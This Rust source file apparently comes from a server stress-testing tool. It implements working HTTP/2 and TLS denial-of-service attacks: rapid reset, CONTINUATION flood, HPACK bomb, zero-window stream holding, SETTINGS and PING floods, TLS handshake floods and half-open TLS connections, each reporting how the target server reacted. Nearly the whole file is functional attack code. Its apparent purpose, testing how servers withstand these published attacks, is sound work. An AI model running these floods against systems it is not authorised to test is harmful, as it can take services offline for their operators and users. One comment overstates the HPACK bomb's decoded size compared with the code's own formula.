//! The HTTP/2 and TLS attacks of `netblast-abuse`, written from RFC 9113 (frames), RFC 7541
//! (HPACK) and the published attacks: rapid reset (CVE-2023-44487), CONTINUATION flood
//! (VU#421644, 2024), HPACK bomb, zero window (a client that never opens its receive window),
//! SETTINGS and PING floods (CVE-2019-9515, CVE-2019-9512), TLS handshake floods and half-open
//! TLS connections. Each one is bounded by `--hold` and reports what the server did.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

/// The client connection preface (RFC 9113 §3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 §6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 0x4;
/// The largest frame payload a peer must accept without asking (RFC 9113 §4.2).
const MAX_FRAME: usize = 16_384;

/// One frame: 9-byte header (length, type, flags, stream) and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let n = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&n.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A header block for `GET path` (RFC 7541: static table entries 2 `:method GET`, 6 `:scheme
/// http`, a literal `:path` and `:authority` without indexing).
fn get(path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    for (index, value) in [(4u8, path), (1u8, "localhost")] {
        b.push(index); // literal without indexing, name from the static table (4-bit prefix)
        b.push(value.len() as u8);
        b.extend_from_slice(value.as_bytes());
    }
    b
}

/// A new HTTP/2 connection: preface and a SETTINGS frame with `settings` (id, value).
pub fn open(connect: &dyn Fn() -> Result<TcpStream, String>, settings: &[(u16, u32)]) -> Result<TcpStream, String> {
    let mut c = connect()?;
    let mut payload = Vec::new();
    for (id, v) in settings {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&v.to_be_bytes());
    }
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &payload));
    c.write_all(&hello).map_err(|e| format!("preface: {e}"))?;
    c.set_write_timeout(Some(Duration::from_secs(2))).ok();
    Ok(c)
}

/// What the server sent back on a connection, read by a thread of its own until it closes.
#[derive(Default)]
pub struct Seen {
    /// Bytes received.
    pub bytes: AtomicU64,
    /// GOAWAY frames received; the last one's error code + 1 (0: none).
    pub goaway: AtomicU64,
    /// The server closed or reset the connection.
    pub closed: AtomicU64,
}

/// Reads (and parses just enough of) what the server sends on `c`, noting GOAWAY and the close.
pub fn watch(c: &TcpStream) -> Arc<Seen> {
    let seen = Arc::new(Seen::default());
    let (mut r, s) = (c.try_clone().expect("clone"), seen.clone());
    std::thread::spawn(move || {
        let mut head = [0u8; 9];
        loop {
            let mut payload = Vec::new();
            let ok = r.read_exact(&mut head).is_ok() && {
                // Frames are at most the 16 KB this client announced (it announces no other).
                let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
                len <= MAX_FRAME && {
                    payload.resize(len, 0);
                    r.read_exact(&mut payload).is_ok()
                }
            };
            if !ok {
                s.closed.store(1, Ordering::Relaxed);
                return;
            }
            s.bytes.fetch_add(9 + payload.len() as u64, Ordering::Relaxed);
            if head[3] == GOAWAY && payload.len() >= 8 {
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                s.goaway.store(code as u64 + 1, Ordering::Relaxed);
            }
        }
    });
    seen
}

/// How the server ended an attack's connections, in words.
fn ended(seen: &[Arc<Seen>]) -> String {
    let closed = seen.iter().filter(|s| s.closed.load(Ordering::Relaxed) > 0).count();
    let goaway: Vec<u64> = seen.iter().map(|s| s.goaway.load(Ordering::Relaxed)).filter(|&g| g > 0).collect();
    let code = goaway.first().map(|g| match g - 1 {
        0x0 => "NO_ERROR".to_string(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        0xd => "HTTP_1_1_REQUIRED".into(),
        c => format!("error {c:#x}"),
    });
    format!(
        "server sent GOAWAY on {} and closed {} of {} connections{}",
        goaway.len(),
        closed,
        seen.len(),
        code.map(|c| format!(" (first GOAWAY: {c})")).unwrap_or_default()
    )
}

/// Runs `attack` on `conns` new connections at once, each on a thread of its own until `hold`
/// ends (or the server stops it); what the server sent back is watched. Returns the sum of
/// what the threads counted, and what each connection saw.
fn flood<F>(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    conns: usize,
    hold: Duration,
    attack: F,
) -> Result<(u64, Vec<Arc<Seen>>), String>
where
    F: Fn(&mut TcpStream, Instant, &AtomicU64) + Send + Sync + 'static,
{
    let until = Instant::now() + hold;
    let (sent, attack) = (Arc::new(AtomicU64::new(0)), Arc::new(attack));
    let mut seen = Vec::new();
    let mut workers = Vec::new();
    for _ in 0..conns {
        let mut c = open(connect, &[])?;
        seen.push(watch(&c));
        let (sent, attack) = (sent.clone(), attack.clone());
        workers.push(std::thread::spawn(move || attack(&mut c, until, &sent)));
    }
    for w in workers {
        let _ = w.join();
    }
    Ok((sent.load(Ordering::Relaxed), seen))
}

/// Rapid reset: streams opened and cancelled at once, as fast as the server takes them.
pub fn rapid_reset(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    conns: usize,
    hold: Duration,
) -> Result<String, String> {
    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
        let block = get("/?size=1MiB");
        let mut id = 1u32;
        let mut batch = Vec::new();
        while Instant::now() < until && id < 0x7fff_0000 {
            batch.clear();
            for _ in 0..100 {
                batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
                batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
                id += 2;
            }
            if c.write_all(&batch).is_err() {
                return;
            }
            sent.fetch_add(100, Ordering::Relaxed);
        }
    })?;
    Ok(format!("rapid reset: {sent} streams opened and cancelled on {conns} connections; {}", ended(&seen)))
}

/// CONTINUATION flood: one header block that never ends, a frame of new headers at a time.
pub fn continuation_flood(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    conns: usize,
    hold: Duration,
) -> Result<String, String> {
    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
        if c.write_all(&frame(HEADERS, END_STREAM, 1, &get("/"))).is_err() {
            return;
        }
        // Literal headers without indexing, new names (RFC 7541 §6.2.2): 00 len name len value.
        let mut block = Vec::with_capacity(MAX_FRAME);
        let mut n = 0u64;
        while Instant::now() < until {
            block.clear();
            while block.len() + 40 < MAX_FRAME {
                let name = format!("x-flood-{n:012}");
                block.extend([0x00, name.len() as u8]);
                block.extend_from_slice(name.as_bytes());
                block.extend([8]);
                block.extend_from_slice(b"continue");
                n += 1;
            }
            if c.write_all(&frame(CONTINUATION, 0, 1, &block)).is_err() {
                return;
            }
            sent.fetch_add(block.len() as u64, Ordering::Relaxed);
        }
    })?;
    Ok(format!(
        "CONTINUATION flood: {} KB of header block never ended on {conns} connections; {}",
        sent >> 10,
        ended(&seen)
    ))
}

/// HPACK bomb: one 4 KB header put in the dynamic table, then referenced by one byte each,
/// thousands of times per request (a 16 KB block decoding to 64 MB of headers).
pub fn hpack_bomb(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    conns: usize,
    hold: Duration,
) -> Result<String, String> {
    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
        let mut id = 1u32;
        while Instant::now() < until {
            let mut block = get("/");
            // Literal with incremental indexing, new name (RFC 7541 §6.2.1): 0x40, name, value
            // of 4000 bytes (length 4000 in a 7-bit prefix integer: 0x7f, then 3873 in base 128).
            block.extend([0x40, 6]);
            block.extend_from_slice(b"x-bomb");
            block.extend([0x7f, 0xa1, 0x1e]);
            block.extend(std::iter::repeat_n(b'a', 4000));
            // Index 62: the first dynamic entry, one byte each.
            while block.len() < MAX_FRAME {
                block.push(0x80 | 62);
            }
            if c.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &block)).is_err() {
                return;
            }
            sent.fetch_add(1, Ordering::Relaxed);
            id += 2;
            std::thread::sleep(Duration::from_millis(1));
        }
    })?;
    Ok(format!(
        "HPACK bomb: {sent} requests of 16 KB decoding to ~{} MB of headers each, on {conns} connections; {}",
        ((MAX_FRAME - 4100) * 4038) >> 20,
        ended(&seen)
    ))
}

/// Zero window: a client that announces a receive window of 0 and asks for large bodies on
/// every stream it may open, then never reads; the connections are held.
pub fn zero_window(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    conns: usize,
    held: &mut Vec<Box<dyn std::any::Any>>,
) -> Result<String, String> {
    let mut seen = Vec::new();
    let mut streams = 0;
    for _ in 0..conns {
        let mut c = open(connect, &[(INITIAL_WINDOW_SIZE, 0)])?;
        let mut batch = Vec::new();
        for k in 0..100u32 {
            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * k, &get("/?size=64MiB")));
        }
        if c.write_all(&batch).is_ok() {
            streams += 100;
        }
        seen.push(watch(&c));
        held.push(Box::new(c));
    }
    std::thread::sleep(Duration::from_secs(1));
    let got: u64 = seen.iter().map(|s| s.bytes.load(Ordering::Relaxed)).sum();
    held.push(Box::new(seen));
    Ok(format!(
        "zero window: {streams} streams asking 64 MiB each on {conns} connections that never open their window; {} KB came back in 1 s",
        got >> 10
    ))
}

/// SETTINGS or PING flood: frames that each ask for an acknowledgement, from a client that
/// never reads one. The server must stop reading (or close), not queue acknowledgements.
pub fn ack_flood(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    kind: u8,
    conns: usize,
    hold: Duration,
) -> Result<String, String> {
    let until = Instant::now() + hold;
    let (sent, stalled) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let mut closed = Vec::new();
    let mut workers = Vec::new();
    for _ in 0..conns {
        let mut c = open(connect, &[])?;
        let (sent, stalled) = (sent.clone(), stalled.clone());
        let gone = Arc::new(AtomicU64::new(0));
        closed.push(gone.clone());
        workers.push(std::thread::spawn(move || {
            let one =
                if kind == PING { frame(PING, 0, 0, &[7; 8]) } else { frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]) };
            let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 1000).collect();
            let mut was_stalled = false;
            while Instant::now() < until {
                match c.write(&batch) {
                    Ok(n) => {
                        sent.fetch_add((n / one.len()) as u64, Ordering::Relaxed);
                    }
                    Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => {
                        if !was_stalled {
                            stalled.fetch_add(1, Ordering::Relaxed);
                            was_stalled = true;
                        }
                    }
                    Err(_) => {
                        gone.store(1, Ordering::Relaxed);
                        return;
                    }
                }
            }
        }));
    }
    for w in workers {
        let _ = w.join();
    }
    let closed = closed.iter().filter(|g| g.load(Ordering::Relaxed) > 0).count();
    Ok(format!(
        "{} flood: {} frames sent, acknowledgements never read, on {conns} connections; the server stopped reading {} and closed {}",
        if kind == PING { "PING" } else { "SETTINGS" },
        sent.load(Ordering::Relaxed),
        stalled.load(Ordering::Relaxed),
        closed
    ))
}

/// The rustls client of an attacker that accepts any certificate.
fn tls_client() -> Result<Arc<rustls::ClientConfig>, String> {
    let h = netblast_spec::profile::HttpSection { insecure: true, ..Default::default() };
    netblast_engine::kinds::http::tls::client_config(&h)
}

/// TLS handshake flood: `threads` loops of full handshakes, each connection closed at once.
pub fn tls_flood(
    connect: &(dyn Fn() -> Result<TcpStream, String> + Sync),
    threads: usize,
    hold: Duration,
) -> Result<String, String> {
    let cfg = tls_client()?;
    let until = Instant::now() + hold;
    let (done, failed) = (AtomicU64::new(0), AtomicU64::new(0));
    let first = std::sync::Mutex::new(None::<String>);
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| {
                while Instant::now() < until {
                    let r = connect().and_then(|mut tcp| {
                        tcp.set_read_timeout(Some(Duration::from_secs(5))).ok();
                        let name = rustls::pki_types::ServerName::try_from("localhost").map_err(|e| e.to_string())?;
                        let mut tls = rustls::ClientConnection::new(cfg.clone(), name).map_err(|e| e.to_string())?;
                        while tls.is_handshaking() {
                            tls.complete_io(&mut tcp).map_err(|e| e.to_string())?;
                        }
                        Ok(())
                    });
                    match r {
                        Ok(()) => done.fetch_add(1, Ordering::Relaxed),
                        Err(e) => {
                            first.lock().unwrap().get_or_insert(e);
                            failed.fetch_add(1, Ordering::Relaxed)
                        }
                    };
                }
            });
        }
    });
    let secs = hold.as_secs_f64();
    Ok(format!(
        "TLS handshake flood: {} handshakes ({:.0}/s) from {threads} threads, {} failed{}",
        done.load(Ordering::Relaxed),
        done.load(Ordering::Relaxed) as f64 / secs,
        failed.load(Ordering::Relaxed),
        first.lock().unwrap().as_deref().map(|f| format!(" (first: {f})")).unwrap_or_default()
    ))
}

/// Whether the server has closed `c` (or answered it with an alert before closing).
fn closed_by_peer(mut c: &TcpStream) -> bool {
    c.set_nonblocking(true).ok();
    let mut b = [0u8; 64];
    match c.read(&mut b) {
        // 0: closed; more: an alert, the server's last word before it closes.
        Ok(0) | Ok(_) => true,
        Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
    }
}

/// Half-open TLS: connections that send nothing, or a ClientHello record header and a few
/// bytes of it, then wait; held. Says how many the server had closed after `wait`.
pub fn half_open_tls(
    connect: &dyn Fn() -> Result<TcpStream, String>,
    count: usize,
    wait: Duration,
    held: &mut Vec<Box<dyn std::any::Any>>,
) -> Result<String, String> {
    let mut conns = Vec::new();
    let mut refused = 0;
    for i in 0..count {
        match connect() {
            Ok(mut c) => {
                if i % 2 == 1 {
                    // A handshake record of 512 bytes (RFC 8446 §5.1), ClientHello, 6 of them sent.
                    let _ = c.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
                }
                conns.push(c);
            }
            Err(_) => refused += 1,
        }
    }
    std::thread::sleep(wait);
    let closed = conns.iter().filter(|c| closed_by_peer(c)).count();
    let n = conns.len();
    held.push(Box::new(conns));
    Ok(format!(
        "half-open TLS: {n} connections (half silent, half a partial ClientHello), {refused} refused; the server had closed {closed} after {:.0} s",
        wait.as_secs_f64()
    ))
}
